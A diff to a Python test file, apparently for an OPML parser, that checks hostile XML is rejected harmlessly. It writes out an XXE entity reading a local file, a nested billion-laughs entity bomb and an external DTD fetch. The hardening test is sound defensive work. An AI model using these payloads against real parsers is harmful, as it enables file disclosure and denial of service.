@@ -77,11 +77,11 @@ def test_what_is_no_opml_is_refused(body: bytes):
 def test_hostile_documents_do_no_harm(tmp_path):
     """No file is read, no address opened, no entity multiplied, no depth too deep: each ends in less than a second."""
     secret = tmp_path / "secret"
-    secret.write_text("hunter2")
+    secret.write_text('<outline xmlUrl="https://hunter2.example/"/>')
     entities = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
     hostile = [
         f'<!DOCTYPE o [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
-        '<opml><body><outline text="&x;" xmlUrl="https://a.example/&x;"/></body></opml>',
+        '<opml><body><outline text="&x;" xmlUrl="https://a.example/&x;"/>&x;</body></opml>',
         f'<!DOCTYPE o [<!ENTITY e0 "aaaaaaaaaa">{entities}]>'
         '<opml><body><outline text="&e9;" xmlUrl="https://a.example/"/></body></opml>',
         '<!DOCTYPE o SYSTEM "http://a.example/x.dtd"><opml><body><outline xmlUrl="https://a.example/"/></body></opml>',
